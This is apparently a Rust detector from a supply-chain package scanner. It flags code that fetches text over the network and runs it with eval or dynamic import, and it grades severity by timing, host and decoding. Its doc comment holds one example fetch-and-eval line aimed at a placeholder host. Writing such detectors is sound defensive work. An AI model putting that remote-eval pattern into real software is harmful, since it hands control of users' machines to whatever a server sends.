//! Text that comes from the network is run as code.
//!
//! What runs is decided by a server, each time anew. Nobody can look at it before.
//!
//! **What to do:** do not run it. **Limits:** loaders of modules in browsers do this on demand with addresses of their caller; that is told as low.
//! **Example:** `eval(await (await fetch('https://x.invalid/c')).text())`.

use super::common::*;

pub(super) const DETECTOR: Detector = Detector {
    id: "behaviour/eval-remote",
    catalogue: "EVAL-REMOTE",
    title: "runs text from the network as code",
    severity: Critical,
    ecosystems: &[],
    run,
};

fn run(package: &Package, findings: &mut Findings) {
    for (code, from, to, decoded) in package.flows() {
        let remote = matches!(from.what, What::NetReceive | What::ChannelReceive | What::DnsReceive);
        if !remote
            || !matches!(to.what, What::Eval | What::DynamicImport)
            || code.language == Some(Language::Shell)
        {
            continue;
        }
        let abroad = foreign(&from.detail).is_some();
        let grade = match (early(code, to), abroad || decoded) {
            (true, true) => (Critical, Sure),
            (true, false) => (Critical, Likely),
            (false, true) if abroad => (High, Likely),
            (false, _) => (Low, Likely),
        };
        // What a function of a page loads by its address is the page's business, and WebAssembly reaches only what it is handed.
        let is_loading = to.what == What::DynamicImport
            || to.detail.starts_with("script ")
            || to.detail.starts_with("WebAssembly");
        let grade = if is_loading && !early(code, to) { (Low, Likely) } else { grade };
        findings.tell(
            code,
            to,
            grade,
            &format!("runs what {} answers as code {}", host(&from.detail), when(code, to)),
        );
    }
}
